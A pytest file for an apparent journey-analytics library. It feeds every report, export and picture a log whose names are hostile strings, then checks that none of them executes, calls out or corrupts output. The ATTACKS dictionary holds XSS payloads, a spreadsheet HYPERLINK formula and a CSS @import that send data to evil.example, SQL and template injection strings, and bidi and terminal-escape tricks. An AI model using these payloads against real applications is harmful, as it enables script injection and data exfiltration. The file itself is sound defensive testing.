"""A log in which every name is an attack goes through every notebook and every export."""

from __future__ import annotations

import csv
import json
import os
import random
import re
import shutil
from collections.abc import Iterator
from datetime import datetime, timedelta
from html import unescape
from pathlib import Path
from xml.etree import ElementTree

import pytest
from browser import Browser, needs_chromium

import journeylab as jl
from journeylab.cli import main
from journeylab.report import run_reports
from journeylab.runs import write_indexes

NOTEBOOKS = [
    "data_check",
    "drop_off",
    "explore",
    "journey_map",
    "monitor",
    "personas",
    "quickstart",
    "voice_of_customer",
]

LONG = "W" * 9_990 + "-at-the-end"
LONG_WORDS = "ten thousand letters of words " * 340
ATTACKS = {
    "script": "<script>document.title='pwned'</script>",
    "image": """<img src=x onerror="alert('pwned')">""",
    "closing": "</title></style></text></svg></td></script>--><svg onload=alert(1)>",
    "quotes": "a\"b'c`d\\",
    "attribute": '" onmouseover=alert(1) x="',
    "math": "$x_1$ costs $\\frac{5}{0}$",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "override": "\u202egpj.exe\u2066",
    "arabic": "\u200fعربة (التسوق) 12",
    "lines": "two\nlines\n# and a heading",
    "returns": "three\r\nlines\r\n- item",
    "markdown": "**[click](javascript:alert(1))** ![x](http://evil.example/x.png) | a | b |",
    "template": "{{ 7 * 7 }} {% raw %} {0} {name} %s %(x)s ${HOME}",
    "sql": "'; DROP TABLE steps; --",
    "style": "x}body{display:none}@import 'http://evil.example/';</style>",
    "entity": "&lt;b&gt;&amp;&#60;script&#62;",
    "underscore": "_hidden",
    "controls": "bell\x07 \x1b[31mred\x1b[0m \x85\u2028next",
    "zalgo": "c\u0336\u0308\u0301" * 40,
    "long": LONG,
    "words": LONG_WORDS,
}
FUNNEL = [ATTACKS[name] for name in ("script", "long", "formula", "lines", "arabic")]
GOAL = ATTACKS["closing"]
STAGES = ["<b>look</b>", "$basket$\nnow", GOAL, ATTACKS["words"]]
BY = "=by <img src=x onerror=alert(2)>"
WHO, WHAT, WHEN = "<script>alert('who')</script>", "=what\"'", "$when$ {x} %s"
N_CUSTOMERS = 300


def write_log(folder: Path) -> None:
    """Write what the notebooks read: the log, its rules, the customers and what they stated."""
    draw = random.Random(5)
    others = [name for name in ATTACKS.values() if name not in FUNNEL]
    groups = list(ATTACKS.values())
    # Long names are rare: a log of nothing else would only be slow.
    short = [name for name in groups if len(name) < 1_000]
    rows, people = [], []
    # Two kinds of customers, who do different things: personas that are found again.
    own = [(others[kind::2], [5] * 3 + [1] * (len(others[kind::2]) - 3)) for kind in (0, 1)]
    start = datetime(2026, 9, 1)
    for number in range(N_CUSTOMERS):
        customer = f"{groups[number % len(groups)]} {number}"
        people.append([customer, draw.choice(others), draw.randint(18, 80)])
        moment = start + timedelta(minutes=draw.randrange(60 * 24 * 60))
        is_keen = number % 2
        said = [draw.choice(short[:4]), draw.choice(short), draw.choice(short), draw.choice(short[4:9])]
        if number % 13 == 0:
            said = [LONG, LONG, LONG_WORDS, LONG]
        for step, event in enumerate(FUNNEL):
            rows.append([customer, event, moment, 0.0, *said, "", ""])
            for _ in range(1 + draw.randrange(2 + is_keen)):
                moment += timedelta(minutes=draw.randrange(1, 90))
                answer = [draw.randint(0, 10), draw.choice(groups)] if draw.random() < 0.3 else ["", ""]
                rows.append([customer, draw.choices(*own[is_keen])[0], moment, 0.0, *said, *answer])
            moment += timedelta(minutes=draw.randrange(1, 600))
            if draw.random() > 0.6 + 0.3 * is_keen:
                break
            if step == len(FUNNEL) - 1:
                rows[-1][3] = round(draw.uniform(5, 500), 2)
    head = [WHO, WHAT, WHEN, "value", "channel", "device", "campaign", BY, "score", "text"]
    write_csv(folder / LOG, [head, *rows])
    write_csv(folder / "people.csv", [["customer_id", ATTACKS["image"], "=age\n$y$"], *people])
    stage_of = dict(zip(FUNNEL, [STAGES[0], STAGES[0], STAGES[1], STAGES[1], STAGES[2]], strict=True))
    stage_of |= dict.fromkeys(others[:8], STAGES[3])
    rules = [f"stages = {toml(STAGES)}", f"goal = {toml(GOAL)}", 'journey_gap = "7D"', "[stage_of]"]
    rules += [f"{toml(event)} = {toml(stage)}" for event, stage in stage_of.items()]
    (folder / "rules.toml").write_text("\n".join(rules), encoding="utf-8")
    stated = [f"[{number}]\nn_interviews = 7\nquote = {toml(list(ATTACKS.values())[:9])}\n" for number in (1, 2)]
    stated[0] += f"goal = {toml(LONG)}\nneed = {toml(ATTACKS['override'])}\n"
    (folder / "stated.toml").write_text("".join(stated), encoding="utf-8")


LOG = "<img src=x onerror=alert(3)> $log$.csv"


def write_csv(path: Path, rows: list[list[object]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows(rows)


def toml(value: object) -> str:
    # JSON's texts and lists are TOML's, but for the surrogates that plain JSON has.
    return json.dumps(value, ensure_ascii=False).replace("\x7f", "\\u007f")


GIVEN = {
    "data": LOG,
    "customer_id": WHO,
    "event": WHAT,
    "timestamp": WHEN,
    "rules": "rules.toml",
    "where": """device != "<script>alert('none')</script>" """,
    "steps_of_funnel": json.dumps(FUNNEL),
    "properties": json.dumps(["device", "campaign", BY]),
    "by": BY,
    "k": "2",
    "quotes": "3",
    "files": json.dumps(["html", "svg", "json", "mmd", "cjml", "drawio", "xlsx"]),
    "pain": json.dumps([ATTACKS["markdown"], ATTACKS["style"]]),
    "customers": "people.csv",
    "stated": "stated.toml",
    "names": json.dumps([f"1={ATTACKS['image']}", f"2={LONG}"]),
}


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The folder one is in, with the log."""
    folder = tmp_path_factory.mktemp("hostile")
    write_log(folder)
    before = Path.cwd()
    os.chdir(folder)
    yield folder
    os.chdir(before)


@pytest.fixture(scope="module")
def run(place: Path) -> Path:
    """One run of all notebooks, in a folder whose name is no better."""
    run_reports(NOTEBOOKS, GIVEN, out="reports/<b>&run", text=True)
    return place / "reports" / "<b>&run"


@pytest.fixture(scope="module")
def pages(run: Path, place: Path) -> dict[str, Path]:
    """All pages that come of it: the reports, the lists, a comparison of two runs, and a page of all pictures."""
    later = change_run(run, run.with_name('<i>later" x='))
    write_indexes(later)
    for out, other in (("same.html", run), ("diff.html", later)):
        with pytest.raises(SystemExit, match="0"):
            main(["diff", str(run), str(other), "--out", str(place / out)])
    return {
        **{name: run / f"{name}.html" for name in [*NOTEBOOKS, "index"]},
        "runs": place / "reports" / "index.html",
        "same": place / "same.html",
        "diff": place / "diff.html",
        "pictures": draw_pictures(place),
    }


def change_run(run: Path, later: Path) -> Path:
    """Copy a run; in the copy, parameters and figures are other ones, as hostile as before."""
    shutil.copytree(run, later)
    told = json.loads((later / "run.json").read_text(encoding="utf-8"))
    told["versions"][ATTACKS["script"]] = LONG
    for entry, (name, text) in zip(told["reports"].values(), ATTACKS.items(), strict=False):
        entry["parameters"] |= {"data": text, "rules": name}
        entry["values"] = {key: 2 * value for key, value in entry["values"].items() if isinstance(value, int | float)}
    (later / "run.json").write_text(json.dumps(told), encoding="utf-8")
    return later


def draw_pictures(place: Path) -> Path:
    """Save each picture by itself, and one page with all of them."""
    log = jl.load_log(LOG, customer_id=WHO, event=WHAT, timestamp=WHEN, rules="rules.toml")
    steps, journeys = log.steps, log.journeys
    funnel = jl.build_funnel(steps, jl.FunnelRules(FUNNEL), as_of=log.as_of)
    by_group = jl.build_funnel(steps, jl.FunnelRules(FUNNEL), by=[BY, "channel"], as_of=log.as_of)
    # A figure holds fifteen events; more are a table.
    few = list(ATTACKS.values())[:10]
    moves = jl.count_transitions(steps, journeys)
    moves = moves[moves["event"].isin(few) & moves["next_event"].isin(few)]
    drawn = {
        "funnel": jl.draw_funnel(funnel),
        "groups": jl.draw_funnel(by_group),
        "flow": jl.draw_flow(jl.count_flows(steps, journeys)),
        "curve": jl.draw_time_to_convert(jl.estimate_time_to_convert(by_group)),
        "matrix": jl.draw_step_matrix(jl.step_matrix(steps.filter(steps.event.isin(few)), journeys, max_step=6)),
        "transitions": jl.draw_transitions(moves),
    }
    for name, picture in drawn.items():
        picture.save(place / f"{name}.svg")
    tables = [jl.show_table(by_group.table, caption=LONG, note=ATTACKS["closing"]), jl.show_headline(LONG_WORDS)]
    body = "".join(each.html for each in [*drawn.values(), *tables])
    page = place / "pictures.html"
    page.write_text(f"<!doctype html><meta charset=utf-8><title>pictures</title>{body}", encoding="utf-8")
    return page


# Our own; one of the data would be one more.
N_SCRIPTS = {**dict.fromkeys(NOTEBOOKS, 2), "runs": 1, "same": 1, "diff": 1}
PAGES = [*NOTEBOOKS, "index", "runs", "same", "diff", "pictures"]


@pytest.mark.parametrize("name", [".", "../index.html", "../../diff.html", "../../same.html", "../../pictures.html"])
def test_nothing_runs_calls_out_or_tells_where_it_was_made(run: Path, pages: dict[str, Path], name: str) -> None:
    assert pages
    found = jl.check_report(run / name)
    assert not found[found["kind"].isin(["active", "request", "path"])].to_dict("records")


def test_no_cell_of_a_table_is_a_formula(run: Path) -> None:
    cells = {
        cell
        for path in (run / "tables").rglob("*.csv")
        for row in csv.reader(path.open(encoding="utf-8", newline=""))
        for cell in row
    }
    assert {f"'{ATTACKS[name]}" for name in ("formula", "plus", "minus", "at", "tab")} <= cells
    for cell in cells:
        if cell.startswith(tuple("=+-@\t\r\n")):
            # A number below zero is no formula.
            float(cell)


def test_what_the_command_says_is_safe_in_a_terminal(
    run: Path, pages: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit, match="0"):
        main(["diff", str(run), str(pages["runs"].with_name('<i>later" x=')), "--out", "again.html"])
    said = capsys.readouterr().out
    assert "pwned" in said
    assert max(map(len, said.splitlines())) < 400
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", said)


def test_run_json_is_json_for_everyone(run: Path) -> None:
    def refuse(word: str) -> None:
        raise AssertionError(f"{word} is no JSON")

    told = json.loads((run / "run.json").read_text(encoding="utf-8"), parse_constant=refuse)
    assert sorted(told["reports"]) == NOTEBOOKS
    assert told["reports"]["drop_off"]["parameters"]["steps_of_funnel"] == FUNNEL
    assert ATTACKS["image"] in told["reports"]["personas"]["values"]["shares"]
    assert "pwned" in told["reports"]["drop_off"]["values"]["headline"]


@pytest.mark.parametrize("name", ["funnel", "groups", "flow", "curve", "matrix", "transitions"])
def test_a_saved_picture_is_a_drawing_and_nothing_else(pages: dict[str, Path], name: str) -> None:
    root = ElementTree.parse(pages["pictures"].with_name(f"{name}.svg")).getroot()
    tags = {element.tag.removeprefix("{http://www.w3.org/2000/svg}") for element in root.iter()}
    assert tags <= {"svg", "g", "path", "rect", "text", "tspan", "title", "desc", "style", "defs", "pattern"} | {
        *("clipPath", "use", "image", "line", "circle")
    }
    assert not [key for element in root.iter() for key in element.attrib if key.startswith("on")]


def test_personas_are_kept_under_their_names(place: Path) -> None:
    log = jl.load_log(LOG, customer_id=WHO, event=WHAT, timestamp=WHEN, rules="rules.toml")
    found = jl.fit_personas(log.steps, log.journeys, k=2)
    found = jl.attach_stated(jl.rename_personas(found, {1: ATTACKS["closing"], 2: LONG}), "stated.toml")
    found.save("personas.json")
    again = jl.load_personas("personas.json")
    assert again.summary["name"].tolist() == [ATTACKS["closing"], LONG]
    assert again.stated is not None
    assert again.stated["text"].tolist() == found.stated["text"].tolist()
    assert jl.draw_personas(again).html == jl.draw_personas(found).html


def test_a_sentence_ends_however_long_its_names_are(run: Path) -> None:
    # What explore shows is code to copy: there a name must be whole.
    for name in set(NOTEBOOKS) - {"explore"}:
        page = (run / f"{name}.html").read_text(encoding="utf-8")
        assert LONG[:1_001] not in page
        assert max(map(len, re.findall(r'<p class="jl-headline">(.*?)</p>', page)), default=0) < 800
        if name == "drop_off":
            # The name alone runs from right to left, not the figures beside it.
            assert re.search("reached \u2068عربة \\(التسوق\\)\u2069 12 \\(", page)


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    browser = Browser(tmp_path_factory.mktemp("profile"))
    yield browser
    browser.close()


# What is seen beyond the page's edge, and not in a part that scrolls; and words that a drawing cuts off.
BEYOND = """
[...document.querySelectorAll('body *')]
  .filter(e => !e.closest('.scroll, .jl-scroll, pre, .skip, thead, caption') && e.getClientRects().length)
  .filter(e => e.getBoundingClientRect().right > innerWidth + 1)
  .map(e => e.tagName + ' ' + e.textContent.slice(0, 40))
"""
CUT_OFF = """
[...document.querySelectorAll('svg.jl')].flatMap(svg => {
  const box = svg.getBoundingClientRect();
  return [...svg.querySelectorAll('text')].filter(text => {
    const own = text.getBoundingClientRect();
    return own.width && (own.right > box.right + 3 || own.left < box.left - 3 || own.bottom > box.bottom + 3);
  }).map(text => text.textContent.slice(0, 60));
})
"""
HANDLERS = "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => /^on/.test(a.name)).length"
ALIVE = "document.querySelectorAll('body img, iframe, object, embed, base, link, svg image').length"


@needs_chromium
@pytest.mark.parametrize("name", PAGES)
def test_in_a_browser_every_name_is_only_a_name(browser: Browser, pages: dict[str, Path], name: str) -> None:
    page = pages[name].resolve()
    title = unescape(re.search("<title>(.*?)</title>", page.read_text(encoding="utf-8"))[1])  # type: ignore[index]
    for width in (1280, 375):
        assert browser.open(page, width=width) == [page.as_uri()]
        assert browser.ask("document.title") == title
        assert browser.ask("location.href") == page.as_uri()
        assert browser.ask("document.scripts.length") == N_SCRIPTS.get(name, 0)
        assert browser.ask(HANDLERS) == browser.ask(ALIVE) == 0
        browser.ask("document.querySelectorAll('details').forEach(each => { each.open = true })")
        assert browser.ask(BEYOND) == []
        assert browser.ask(CUT_OFF) == []
    if name not in ("pictures", "same"):
        assert browser.ask("document.documentElement.scrollWidth") == 375
    if name != "same":
        shown = browser.ask("document.body.textContent")
        assert any(ATTACKS[each] in shown for each in ("script", "image"))


@needs_chromium
def test_a_long_neighbour_does_not_break_a_short_word(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["data_check"])
    lines = """(() => {
      const range = document.createRange();
      range.selectNode([...document.querySelectorAll('.jl-t td')].find(e => e.textContent === 'WORD').firstChild);
      return range.getClientRects().length;
    })()"""
    for word in ("assumed", "timestamp"):
        assert browser.ask(lines.replace("WORD", word)) == 1
